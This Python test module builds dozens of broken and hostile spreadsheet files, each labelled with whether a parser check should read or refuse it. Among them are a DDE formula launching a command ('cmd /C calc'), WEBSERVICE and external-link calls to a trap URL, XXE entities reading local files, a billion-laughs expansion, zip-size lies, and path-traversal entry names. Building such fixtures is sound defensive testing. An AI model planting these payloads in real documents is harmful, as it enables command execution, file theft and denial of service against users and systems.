"""Hostile and broken workbooks of a month, each made as a file; the number says how the check must end."""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping

import openpyxl
from harness import HEADER, ROW, Traps
from texts import entities, laughs

READ, REFUSED = 0, 1
LINES = [HEADER.strip().split(","), *[ROW.strip().split(",")] * 3]
SHEET = "xl/worksheets/sheet1.xml"
_MERGED = b'</sheetData><mergeCells count="1"><mergeCell ref="A5:XFD1048576"/></mergeCells>'
Made = Callable[[Traps], bytes]


def workbook(lines: list[list[str]] = LINES, *, sheet: str = "incidents", shown: bool = True) -> bytes:
    """Return a sound workbook."""
    made = openpyxl.Workbook()
    made.active.title = sheet
    for line in lines:
        made.active.append(line)
    if not shown:
        made.create_sheet("autre").append(["x"])
        made.active.sheet_state = "hidden"
        made.active = 1
    return _saved(made)


def _saved(made: openpyxl.Workbook) -> bytes:
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    """Return a zip of `parts`."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return stream.getvalue()


def changed(content: bytes, **parts: str | bytes | Callable[[bytes], bytes] | None) -> bytes:
    """Return the workbook `content` with parts put in, changed or (None) left out; _s_ in a name is a slash, _d_ a point."""
    with zipfile.ZipFile(io.BytesIO(content)) as whole:
        all_parts: dict[str, str | bytes] = {name: whole.read(name) for name in whole.namelist()}
    for spelt, part in parts.items():
        name = spelt.replace("_s_", "/").replace("_d_", ".")
        if part is None:
            del all_parts[name]
        else:
            all_parts[name] = part(all_parts[name]) if callable(part) else part
    return archive(all_parts)


def _sheet(change: Callable[[bytes], bytes]) -> Made:
    return lambda _: changed(workbook(), xl_s_worksheets_s_sheet1_d_xml=change)


def _row(xml: str) -> Made:
    return _sheet(lambda sheet: sheet.replace(b"</sheetData>", xml.encode() + b"</sheetData>"))


def _bits(content: bytes, flag: int) -> bytes:
    """Set a flag of every entry of a zip: 1 is encrypted."""
    changed_bytes = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed_bytes.find(mark)
        while at >= 0:
            changed_bytes[at + place] |= flag
            at = changed_bytes.find(mark, at + 4)
    return bytes(changed_bytes)


def _sizes(content: bytes, size: int) -> bytes:
    """Let the list of parts claim that each is of `size`."""
    lying = bytearray(content)
    at = lying.find(b"PK\x01\x02")
    while at >= 0:
        lying[at + 24 : at + 28] = struct.pack("<I", size)
        at = lying.find(b"PK\x01\x02", at + 4)
    return bytes(lying)


def _flipped(_: Traps) -> bytes:
    content = bytearray(workbook())
    start = content.index(SHEET.encode()) + len(SHEET)
    for at in range(start + 20, start + 60):
        content[at] ^= 0xFF
    return bytes(content)


def _twice(_: Traps) -> bytes:
    stream = io.BytesIO(workbook())
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as made:
        warnings.simplefilter("ignore")
        made.writestr(SHEET, "<worksheet><sheetData/></worksheet>")
    return stream.getvalue()


def _several(sheets: list[str]) -> bytes:
    made = openpyxl.Workbook()
    made.remove(made.active)
    for name in sheets:
        for line in LINES:
            (made[name] if name in made.sheetnames else made.create_sheet(name)).append(line)
    return _saved(made)


def _shared(text: str) -> Made:
    strings = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + text + "</sst>"
    return lambda _: changed(workbook(), xl_s_sharedStrings_d_xml=strings)


def _formulas(traps: Traps) -> bytes:
    made = openpyxl.Workbook()
    made.active.title = "incidents"
    for line in LINES:
        made.active.append(line)
    made.active.append(
        ["2021-11-03", "B", f'=WEBSERVICE("{traps.url}")', f"='{traps.canary}'!A1", "=cmd|' /C calc'!A0"]
    )
    return _saved(made)


def _linked(traps: Traps) -> bytes:
    target = f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{traps.url}"'
    link = f'<Relationships xmlns="x"><Relationship Id="rId1" {target} TargetMode="External"/></Relationships>'
    return changed(workbook(), xl_s_externalLinks_s__rels_s_externalLink1_d_xml_d_rels=link)


def _outside(traps: Traps) -> bytes:
    relations = b'Target="/xl/worksheets/sheet1.xml"'
    elsewhere = f'Target="../../../../../..{traps.canary}"'.encode()
    return changed(workbook(), xl_s__rels_s_workbook_d_xml_d_rels=lambda part: part.replace(relations, elsewhere))


OPEN_DOCUMENT = "application/vnd.oasis.opendocument.spreadsheet"


def open_document(rows: str, *, doctype: str = "", also: Mapping[str, str] | None = None) -> bytes:
    """Return an .ods whose one sheet has these rows."""
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    table = f'<table:table table:name="incidents">{rows}</table:table>'
    body = f"<office:body><office:spreadsheet>{table}</office:spreadsheet></office:body>"
    content = f'<?xml version="1.0"?>{doctype}<office:document-content {names}>{body}</office:document-content>'
    return archive({"mimetype": OPEN_DOCUMENT, "content.xml": content, **(also or {})})


def _ods_row(cells: str, repeated: str = "") -> str:
    return f"<table:table-row{repeated}>{cells}</table:table-row>"


XLSX: dict[str, tuple[Made, int]] = {
    "cut to a tenth": (lambda _: workbook()[:600], REFUSED),
    "cut to a half": (lambda _: workbook()[: len(workbook()) // 2], REFUSED),
    "cut by one byte": (lambda _: workbook()[:-1], REFUSED),
    "flipped bytes": (_flipped, REFUSED),
    "bytes before the zip": (lambda _: b"MZ" + workbook(), REFUSED),
    "no sheet part": (lambda _: changed(workbook(), xl_s_worksheets_s_sheet1_d_xml=None), REFUSED),
    "no list of sheets": (lambda _: archive({"xl/workbook.xml": "<workbook/>"}), REFUSED),
    "broken list of sheets": (lambda _: archive({"xl/workbook.xml": "<workbook><sheets>"}), REFUSED),
    "sheet cut short": (_sheet(lambda sheet: sheet[: len(sheet) // 2]), REFUSED),
    "sheet that is noise": (_sheet(lambda _: bytes(range(256)) * 20), REFUSED),
    "sheet that is another file": (_outside, REFUSED),
    "cell beyond the last column": (
        _row('<row r="9"><c r="ZZZZZZZ9" t="inlineStr"><is><t>x</t></is></c></row>'),
        REFUSED,
    ),
    "row beyond the last row": (_row('<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'), REFUSED),
    "row of number 0": (_row('<row r="0"><c r="A0"><v>1</v></c></row>'), REFUSED),
    "rows with negative numbers": (_row('<row r="-5"><c r="A-5"><v>1</v></c></row>'), REFUSED),
    "shared text that is not there": (_row('<row r="9"><c r="A9" t="s"><v>99999</v></c></row>'), REFUSED),
    "number that is none": (_row('<row r="9"><c r="A9"><v>1e99999</v></c><c r="C9"><v>NaN</v></c></row>'), READ),
    "entities in the shared texts": (
        lambda traps: changed(workbook(), xl_s_sharedStrings_d_xml=entities(traps)),
        REFUSED,
    ),
    "a billion laughs in the shared texts": (lambda _: changed(workbook(), xl_s_sharedStrings_d_xml=laughs()), REFUSED),
    "entities in the list of sheets": (lambda traps: archive({"xl/workbook.xml": entities(traps)}), REFUSED),
    "formulas that call home": (_formulas, READ),
    "links to elsewhere": (_linked, READ),
    "macros": (lambda _: changed(workbook(), xl_s_vbaProject_d_bin=b"\xd0\xcf\x11\xe0" * 500), READ),
    "names that leave the folder": (lambda _: changed(workbook(), _d__d__s__d__d__s_outside=b"x"), READ),
    "zip in a zip": (lambda _: archive({"incidents.xlsx": workbook()}), REFUSED),
    "zip of a table": (lambda _: archive({"incidents.csv": HEADER + ROW}), REFUSED),
    "page of a text program": (lambda _: archive({"word/document.xml": "<x/>"}), REFUSED),
    "binary workbook": (lambda _: archive({"xl/workbook.bin": b"\x83\x01\x00"}), REFUSED),
    "map of Google Earth": (lambda _: archive({"doc.kml": "<kml/>"}), REFUSED),
    "encrypted parts": (lambda _: _bits(workbook(), 1), REFUSED),
    "parts twice": (_twice, REFUSED),
    "parts that claim 4 GB": (lambda _: _sizes(workbook(), 0xFFFFFFF0), REFUSED),
    "parts that claim no size": (lambda _: _sizes(workbook(), 0), REFUSED),
    "parts that claim a ZIP64 size": (lambda _: _sizes(workbook(), 0xFFFFFFFF), REFUSED),
    "5,001 parts": (
        lambda _: archive({**{f"p{n}": b"" for n in range(5_001)}, "xl/workbook.xml": "<workbook/>"}),
        REFUSED,
    ),
    "60 MB of zeros": (lambda _: archive({"xl/workbook.xml": b"0" * 60_000_000}), REFUSED),
    "texts packed 500 times": (_shared("<si><t>" + "x" * 60_000_000 + "</t></si>"), REFUSED),
    "only hidden sheets of tables": (lambda _: workbook(shown=False), REFUSED),
    "two sheets of one table": (lambda _: _several(["incidents", "Liste des incidents"]), REFUSED),
    "sheet called like an option": (lambda _: workbook(sheet="--help"), READ),
    "sheet called like a formula": (lambda _: workbook(sheet="=1+1"), READ),
    "empty sheet": (lambda _: workbook([]), REFUSED),
    "giant merged range": (_sheet(lambda sheet: sheet.replace(b"</sheetData>", _MERGED)), READ),
    "16,384 columns": (lambda _: workbook([LINES[0] + [f"c{n}" for n in range(16_379)], LINES[1]]), READ),
    "cell of 32,767 characters": (lambda _: workbook([*LINES, ["2021-11-03", "B", "x" * 32_767]]), READ),
    "endless sheet of an open document": (
        lambda _: open_document(
            _ods_row(
                '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>',
                ' table:number-rows-repeated="1000000000"',
            )
        ),
        REFUSED,
    ),
    "entities in an open document": (
        lambda traps: open_document(
            _ods_row("<table:table-cell><text:p>&a;</text:p></table:table-cell>"),
            doctype=f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{traps.canary}">]>',
        ),
        REFUSED,
    ),
    "open document of nothing": (lambda _: open_document(""), REFUSED),
    "open document without content": (lambda _: archive({"mimetype": OPEN_DOCUMENT}), REFUSED),
    "locked open document": (
        lambda _: archive(
            {
                "mimetype": OPEN_DOCUMENT,
                "META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
                "</manifest:manifest>",
                "content.xml": b"\x00\x01\x02",
            }
        ),
        REFUSED,
    ),
}
